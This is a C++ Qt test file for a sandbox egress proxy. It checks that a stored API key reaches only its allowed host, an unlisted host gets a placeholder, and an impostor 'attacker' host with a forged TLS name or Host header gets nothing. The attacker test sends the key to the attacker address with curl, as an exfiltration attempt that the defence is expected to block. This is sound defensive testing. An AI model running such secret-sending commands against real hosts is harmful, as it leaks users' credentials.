// Secrets end to end, from a real sandbox through the egress proxy: in the network namespace "covesecret"
// (10.252.0.0/24) an HTTPS and HTTP host at .2 holds a certificate for api.secret.test and other.secret.test
// from a test CA coved trusts (--egress-trust), and an attacker at .3 holds one for api.secret.test from a CA
// nobody trusts; both record what they receive. The allowed host receives the value in a header and in a
// body; the unlisted host receives the placeholder; the attacker, reached with the allowed name as SNI or as
// a forged Host over plain HTTP, never receives the value; and the value is nowhere inside the sandbox.
#include "support/CovedProcess.h"
#include "support/Http.h"
#include "support/Sandboxes.h"
#include "support/SecretScan.h"

#include <QElapsedTimer>
#include <QTemporaryDir>
#include <QtTest>

using namespace cove::test;

namespace {

constexpr const char* kValue = "sk-e2e-7a41c9d03b-value";
const QString kNamespace = QStringLiteral("covesecret");

// The hosts: HTTPS on :443 and HTTP on :80 of .2 (the real one) and .3 (the attacker), each request's head
// and body appended to <dir>/<address>.log; every request gets "ok".
const char* kServers = R"py(import socketserver, ssl, sys, threading
d = sys.argv[1]
def serve(address, port, certificate):
    class H(socketserver.BaseRequestHandler):
        def handle(self):
            s = self.request
            if certificate:
                c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
                c.load_cert_chain(certificate)
                try:
                    s = c.wrap_socket(s, server_side=True)
                except Exception:
                    return
            data = b""
            while True:
                while b"\r\n\r\n" not in data:
                    chunk = s.recv(65536)
                    if not chunk: return
                    data += chunk
                head, rest = data.split(b"\r\n\r\n", 1)
                n = 0
                for line in head.split(b"\r\n")[1:]:
                    if line.lower().startswith(b"content-length:"): n = int(line[15:])
                while len(rest) < n:
                    chunk = s.recv(65536)
                    if not chunk: return
                    rest += chunk
                with open("%s/%s.log" % (d, address), "ab") as f:
                    f.write(head + b"\r\n\r\n" + rest[:n] + b"\n----\n")
                data = rest[n:]
                s.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
    socketserver.ThreadingTCPServer.allow_reuse_address = True
    socketserver.ThreadingTCPServer.daemon_threads = True
    threading.Thread(target=socketserver.ThreadingTCPServer((address, port), H).serve_forever, daemon=True).start()
serve("10.252.0.2", 443, d + "/real.pem")
serve("10.252.0.2", 80, None)
serve("10.252.0.3", 443, d + "/attacker.pem")
serve("10.252.0.3", 80, None)
print("ready", flush=True)
threading.Event().wait()
)py";

} // namespace

class TestSecretsEgress : public QObject {
    Q_OBJECT
    QTemporaryDir dir;
    CovedProcess coved;
    Sandboxes sb{coved};
    QProcess servers;
    QString id, placeholder;
    QElapsedTimer elapsed;

    QByteArray received(const char* address) {
        QFile f(dir.path() + QStringLiteral("/%1.log").arg(QLatin1String(address)));
        return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray();
    }
    // curl in the sandbox, `name` resolved to `address` by curl itself.
    CommandResult curl(const QString& name, const char* address, const QString& args) {
        return sb.exec(id, QStringLiteral("curl -sS --max-time 10 --resolve %1:443:%2 --resolve %1:80:%2 %3")
                               .arg(name, QLatin1String(address), args));
    }

private slots:
    void initTestCase() {
        elapsed.start();
        QVERIFY(dir.isValid());
        // The test CA and the certificates: the real host's from the trusted CA, the attacker's from another.
        const QString made = sh(
            QStringLiteral(
                "set -e; cd %1; for ca in ca rogue; do openssl req -x509 -newkey rsa:2048 -nodes -days 1 "
                "-subj /CN=$ca -keyout $ca.key -out $ca.crt 2>/dev/null; done; "
                "mk() { openssl req -newkey rsa:2048 -nodes -subj /CN=$1 -keyout $1.key -out $1.csr "
                "2>/dev/null; "
                "printf 'subjectAltName=%s' \"$3\" > $1.ext; openssl x509 -req -in $1.csr -CA $2.crt -CAkey "
                "$2.key -CAcreateserial -days 1 -extfile $1.ext -out $1.crt 2>/dev/null; cat $1.key $1.crt > "
                "$1.pem; }; mk real ca DNS:api.secret.test,DNS:other.secret.test; mk attacker rogue "
                "DNS:api.secret.test; echo made")
                .arg(dir.path()));
        QVERIFY2(made.endsWith(QStringLiteral("made")), qPrintable(made));
        const QString net = sh(
            QStringLiteral(
                "set -e; ip netns add %1; ip link add secrets-host type veth peer name secrets-ns; ip link "
                "set "
                "secrets-ns netns %1; ip addr add 10.252.0.1/24 dev secrets-host; ip link set secrets-host "
                "up; "
                "for a in 2 3; do ip -n %1 addr add 10.252.0.$a/24 dev secrets-ns; done; ip -n %1 link set "
                "secrets-ns up; ip -n %1 link set lo up; ip -n %1 route add default via 10.252.0.1; echo "
                "made")
                .arg(kNamespace));
        QVERIFY2(net.endsWith(QStringLiteral("made")), qPrintable(net));
        servers.start(QStringLiteral("ip"),
                      {QStringLiteral("netns"), QStringLiteral("exec"), kNamespace, QStringLiteral("python3"),
                       QStringLiteral("-u"), QStringLiteral("-c"), QString::fromLatin1(kServers),
                       dir.path()});
        QVERIFY(servers.waitForStarted());
        QByteArray said;
        QElapsedTimer waited;
        waited.start();
        while (!said.contains("ready") && servers.state() == QProcess::Running && waited.elapsed() < 20000) {
            servers.waitForReadyRead(1000);
            said += servers.readAllStandardOutput();
        }
        QVERIFY2(said.contains("ready"), servers.readAllStandardError().constData());

        QVERIFY2(coved.start({QStringLiteral("--warm-pool"), QStringLiteral("0"),
                              QStringLiteral("--egress-trust"), dir.path() + QStringLiteral("/ca.crt"),
                              QStringLiteral("--egress-internal"), QStringLiteral("10.252.0.0/24")}),
                 qPrintable(coved.error()));
        QCOMPARE(sb.call("PUT", QStringLiteral("/api/organizations/personal/tier"), "{\"tier\":4}").status,
                 200);
        const Reply made2 = sb.call("POST", QStringLiteral("/api/secret"),
                                    QByteArray("{\"name\":\"API_KEY\",\"value\":\"") + kValue +
                                        "\",\"hosts\":[\"api.secret.test\"]}");
        QCOMPARE(made2.status, 201);
        placeholder = made2.object().value(QStringLiteral("placeholder")).toString();
        id = sb.create("{\"secrets\":[{\"API_KEY\":\"API_KEY\"}]}");
        QVERIFY(!id.isEmpty());
        QTRY_COMPARE_WITH_TIMEOUT(sb.state(id), QStringLiteral("started"), 60000);
        QVERIFY(sb.get(id)
                    .value(QStringLiteral("networkPolicy"))
                    .toObject()
                    .value(QStringLiteral("proxied"))
                    .toBool());
    }

    void cleanupTestCase() {
        sb.removeAll();
        if (servers.state() != QProcess::NotRunning) {
            servers.kill();
            servers.waitForFinished();
        }
        sh(QStringLiteral("ip netns del %1 2>/dev/null; ip link del secrets-host 2>/dev/null; true")
               .arg(kNamespace));
        qInfo("tst_secrets_egress took %lld ms", static_cast<long long>(elapsed.elapsed()));
    }

    void theAllowedHostReceivesTheValueInAHeaderAndABody() {
        // curl trusts the interception CA through the environment coved set.
        const auto r = curl(QStringLiteral("api.secret.test"), "10.252.0.2",
                            QStringLiteral("-H \"Authorization: Bearer $API_KEY\" -d \"key=$API_KEY\" "
                                           "https://api.secret.test/allowed"));
        QCOMPARE(r.out.trimmed(), QByteArray("ok"));
        const QByteArray got = received("10.252.0.2");
        QVERIFY2(got.contains(QByteArray("Authorization: Bearer ") + kValue), got.constData());
        QVERIFY2(got.contains(QByteArray("key=") + kValue), got.constData());
        QVERIFY(!got.contains(placeholder.toUtf8()));
    }

    void anUnlistedHostReceivesThePlaceholder() {
        const auto r = curl(QStringLiteral("other.secret.test"), "10.252.0.2",
                            QStringLiteral("-k -H \"X-Key: $API_KEY\" https://other.secret.test/unlisted"));
        QCOMPARE(r.out.trimmed(), QByteArray("ok"));
        const QByteArray got = received("10.252.0.2");
        const QByteArray unlisted = got.mid(got.indexOf("/unlisted"));
        QVERIFY2(unlisted.contains("X-Key: " + placeholder.toUtf8()), got.constData());
        QVERIFY(!unlisted.contains(kValue));
    }

    // The sandbox names the allowed host but sends to the attacker: its certificate does not prove the name,
    // so nothing is sent; over plain HTTP to an address Cove never resolved for the name, nothing is
    // replaced.
    void theAttackerNeverReceivesTheValue() {
        const auto tls = curl(QStringLiteral("api.secret.test"), "10.252.0.3",
                              QStringLiteral("-H \"X-Key: $API_KEY\" https://api.secret.test/sni"));
        QVERIFY(tls.out.trimmed() != QByteArray("ok"));
        const auto plain = curl(QStringLiteral("api.secret.test"), "10.252.0.3",
                                QStringLiteral("-H \"X-Key: $API_KEY\" http://api.secret.test/forged"));
        QCOMPARE(plain.out.trimmed(), QByteArray("ok"));
        const QByteArray got = received("10.252.0.3");
        QVERIFY2(!got.contains("/sni"), got.constData());
        QVERIFY2(got.contains("X-Key: " + placeholder.toUtf8()), got.constData());
        QVERIFY(!got.contains(kValue));
    }

    // Secrets mounted into a sandbox made without any work from its next start, as the SDK says: the
    // interception CA goes into its run folder at that start too.
    void secretsMountedLaterWorkAfterARestart() {
        const QString later = sb.create("{}");
        QVERIFY(!later.isEmpty());
        QTRY_COMPARE_WITH_TIMEOUT(sb.state(later), QStringLiteral("started"), 60000);
        const QString path = QStringLiteral("/api/sandbox/") + later;
        QCOMPARE(
            sb.call("PUT", path + QStringLiteral("/secrets"), R"({"secrets":{"API_KEY":"API_KEY"}})").status,
            200);
        QCOMPARE(sb.call("POST", path + QStringLiteral("/stop")).status, 200);
        QTRY_COMPARE_WITH_TIMEOUT(sb.state(later), QStringLiteral("stopped"), 60000);
        QCOMPARE(sb.call("POST", path + QStringLiteral("/start")).status, 200);
        QTRY_COMPARE_WITH_TIMEOUT(sb.state(later), QStringLiteral("started"), 60000);
        const auto r =
            sb.exec(later, QStringLiteral("curl -sS --max-time 10 --resolve api.secret.test:443:10.252.0.2 "
                                          "-H \"X-Later: $API_KEY\" https://api.secret.test/later"));
        QVERIFY2(r.out.trimmed() == QByteArray("ok"), (r.out + r.err).constData());
        QVERIFY(received("10.252.0.2").contains(QByteArray("X-Later: ") + kValue));
    }

    void theValueIsNowhereInTheSandbox() {
        const QByteArray scan = scanForSecret(sb, id, kValue);
        QVERIFY2(secretNowhere(scan), scan.constData());
        QVERIFY(!coved.log().contains(kValue));
    }
};

QTEST_GUILESS_MAIN(TestSecretsEgress)
#include "tst_secrets_egress.moc"
